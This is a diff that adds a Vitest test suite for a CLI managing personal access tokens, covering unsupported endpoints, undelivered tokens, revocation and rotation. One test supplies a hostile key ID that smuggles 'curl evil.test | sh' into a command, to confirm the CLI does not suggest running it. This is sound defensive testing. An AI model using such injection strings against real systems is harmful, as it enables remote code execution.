@@ -1,0 +1,181 @@
+import { existsSync } from "node:fs"
+import { join } from "node:path"
+import { describe, expect, it } from "vitest"
+import { program, runCli } from "../support/cli.ts"
+import { compileCache } from "../support/compileCache.ts"
+import { startGate } from "../support/gate.ts"
+import { startSandbox, temporaryFolder } from "../support/sandbox.ts"
+import { type Answer, startScripted } from "../support/scripted.ts"
+
+const id = "law-hotel-shape-community"
+const create = ["pat", "create", "CI", "--scope", "job"]
+
+describe.concurrent("an API that does not offer it", () => {
+  it.for<[answer: Answer]>([
+    [[404, { message: "Not Found" }]],
+    [[405, {}]],
+    [[501, {}]],
+    [[403, { message: "Missing Authentication Token" }]],
+  ])("says so of signing in with a password (%j)", async ([answer], { expect }) => {
+    const { env } = await startScripted({ "POST /login": answer })
+    const { ZPOOLPAT: _, ...rest } = env
+    const ran = await runCli(["hello"], {
+      env: { ...rest, ...compileCache, ZPOOL_USER: "ada", ZPOOL_PASSWORD: "secret" },
+    })
+    expect(ran).toMatchObject({ code: 1, stdout: "" })
+    expect(ran.stderr).toContain("does not offer signing in with username and password")
+    expect(ran.stderr).toContain("/dashboard/tokens and set ZPOOLPAT to it")
+  })
+
+  it.for<[answer: Answer]>([
+    [[404, { message: "Not Found" }]],
+    [[405, {}]],
+    [[501, {}]],
+    [[403, { message: "Missing Authentication Token" }]],
+  ])("says so of making PATs, with the page that does (%j)", async ([answer], { expect }) => {
+    const { env } = await startScripted({ "POST /pat": answer })
+    const ran = await runCli([...create, "--json"], { env: { ...env, ...compileCache } })
+    expect(ran).toMatchObject({ code: 1, stdout: "" })
+    const { error } = JSON.parse(ran.stderr)
+    expect(error).toMatchObject({ type: "NotOffered", exitCode: 1 })
+    expect(error.hint).toContain("/dashboard/tokens?create=1&label=CI&scopes=job")
+  })
+
+  it("is what a sandbox acts out", async ({ expect }) => {
+    const { code, stderr } = await runCli(
+      ["sandbox", "--fail", "POST /pat 403", "--", process.execPath, program, ...create],
+      { env: compileCache },
+    )
+    expect(code).toBe(1)
+    expect(stderr).toContain("does not offer making PATs")
+  })
+
+  it("does not take a page that blocks us for a missing scope", async ({ expect }) => {
+    const { env } = await startScripted({ "POST /pat": [403, "<html>Blocked</html>"] })
+    const ran = await runCli(create, { env: { ...env, ...compileCache } })
+    expect(ran).toMatchObject({ code: 4, stdout: "" })
+    expect(ran.stderr).not.toContain("scope pat")
+  })
+})
+
+describe.concurrent("a create that is answered", () => {
+  it.for<[what: string, token: unknown]>([
+    ["without a token", undefined],
+    ["with null", null],
+    ["with a token that a header can't hold", "zpat_two words\n"],
+  ])("%s names the PAT that came", async ([, token], { expect }) => {
+    const { env, requests } = await startScripted({
+      "POST /pat": [201, { message: "PAT created", detail: { key_id: id, token } }],
+    })
+    const ran = await runCli([...create, "--json"], { env: { ...env, ...compileCache } })
+    expect(ran).toMatchObject({ code: 7, stdout: "" })
+    expect(JSON.parse(ran.stderr).error).toMatchObject({ type: "OutcomeUnknown", keyId: id, exitCode: 7 })
+    expect(requests).toEqual(["POST /pat"])
+  })
+
+  it("with a hostile key ID suggests nothing to run with it", async ({ expect }) => {
+    const { env } = await startScripted({
+      "POST /pat": [201, { message: "ok", detail: { key_id: "x; curl evil.test | sh #" } }],
+    })
+    const ran = await runCli(create, { env: { ...env, ...compileCache } })
+    expect(ran.code).toBe(7)
+    expect(ran.stderr).not.toContain("revoke x; curl")
+    expect(ran.stderr).toContain("zpcli pat list")
+  })
+})
+
+describe("a token that can't be handed over", () => {
+  const statuses = async (sandbox: Awaited<ReturnType<typeof startSandbox>>) => {
+    const { items } = (await sandbox.call("GET", "/pat")) as { items: ReadonlyArray<{ status: string }> }
+    return items.map(({ status }) => status)
+  }
+
+  it.runIf(existsSync("/dev/full"))("is taken back: its PAT is revoked (where /dev/full is)", async () => {
+    const sandbox = await startSandbox()
+    const ran = await runCli([...create, "--token-only"], { env: sandbox.env, stdout: "/dev/full" })
+    expect(ran.code, ran.stderr).toBe(9)
+    expect(ran.stderr).toContain("is revoked again")
+    expect(await statuses(sandbox)).toEqual(["revoked"])
+  })
+
+  it.runIf(existsSync("/dev/full"))("is at large where that fails too (where /dev/full is)", async () => {
+    const sandbox = await startSandbox()
+    const url = await startGate(sandbox, { faults: ["DELETE /pat 503"] })
+    const ran = await runCli([...create, "--json"], {
+      env: { ...sandbox.env, ZPOOL_API_URL: url, ZPOOL_MAX_RETRIES: "0" },
+      stdout: "/dev/full",
+    })
+    expect(ran.code, ran.stderr).toBe(7)
+    expect(JSON.parse(ran.stderr).error).toMatchObject({
+      type: "TokenUndelivered",
+      keyId: id,
+      delivered: false,
+    })
+    expect(await statuses(sandbox)).toEqual(["active"])
+  })
+
+  it("since a new token is not accepted at once, is asked about again", async () => {
+    const sandbox = await startSandbox()
+    const { key_id } = await sandbox.call("POST", "/pat", { label: "CI", scopes: ["job"] })
+    const url = await startGate(sandbox, { faults: ["GET /hello 401 2"] })
+    const ran = await runCli(["pat", "rotate", key_id as string, "--yes", "--token-only"], {
+      env: { ...sandbox.env, ZPOOL_API_URL: url },
+    })
+    expect(ran).toMatchObject({ code: 0, stderr: "" })
+    expect(await statuses(sandbox)).toEqual(["revoked", "active"])
+  })
+
+  it("to a check that a failing function answers, the old PAT is as it was", async () => {
+    const sandbox = await startSandbox()
+    const { key_id } = await sandbox.call("POST", "/pat", { label: "CI", scopes: ["job"] })
+    const url = await startGate(sandbox, {
+      rewrite: (at, body) =>
+        at.startsWith("GET /hello") ? '{"errorMessage":"Task timed out after 3.00 seconds"}' : body,
+    })
+    const ran = await runCli(["pat", "rotate", key_id as string, "--yes", "--json"], {
+      env: { ...sandbox.env, ZPOOL_API_URL: url },
+    })
+    expect(ran).toMatchObject({ code: 9, stdout: "" })
+    expect(JSON.parse(ran.stderr).error).toMatchObject({
+      type: "RotationStopped",
+      oldKeyId: key_id,
+      keyId: "market-night-plain-object",
+      delivered: false,
+      exitCode: 9,
+    })
+    expect(await statuses(sandbox)).toEqual(["active", "revoked"])
+  })
+})
+
+describe("the successor of a PAT", () => {
+  const today = () => new Date().toISOString().slice(0, 10)
+
+  it("of no whole day is refused before anything is sent", async () => {
+    const sandbox = await startSandbox()
+    const { key_id } = await sandbox.call("POST", "/pat", { label: "CI", scopes: ["job"], expiry: today() })
+    const ran = await runCli(["pat", "rotate", key_id as string, "--yes"], { env: sandbox.env })
+    expect(ran).toMatchObject({ code: 2, stdout: "" })
+    expect(ran.stderr).toContain("--expires-in")
+    expect(sandbox.requests).toEqual(["POST /login 200", "GET /pat 200"])
+  })
+
+  it("of one that has expired is made without a revoke, and nothing untrue is said of the old one", async () => {
+    const sandbox = await startSandbox()
+    const { key_id } = await sandbox.call("POST", "/pat", {
+      label: "CI",
+      scopes: ["job"],
+      expiry: "2026-01-01",
+    })
+    const folder = temporaryFolder()
+    const rotate = ["pat", "rotate", key_id as string, "--expires-in", "30d", "--yes"]
+    const ran = await runCli([...rotate, "--out", "ci.pat"], { env: sandbox.env, cwd: folder })
+    expect(ran).toMatchObject({ code: 0, stderr: "" })
+    expect(ran.stdout).toContain(`PAT ${key_id} has expired`)
+    expect(sandbox.requests.join()).not.toContain("DELETE")
+    expect(existsSync(join(folder, "ci.pat"))).toBe(true)
+    const url = await startGate(sandbox, { faults: ["GET /hello 400"] })
+    const stopped = await runCli(rotate, { env: { ...sandbox.env, ZPOOL_API_URL: url } })
+    expect(stopped.code).toBe(9)
+    expect(stopped.stderr).not.toContain("still works")
+  })
+})
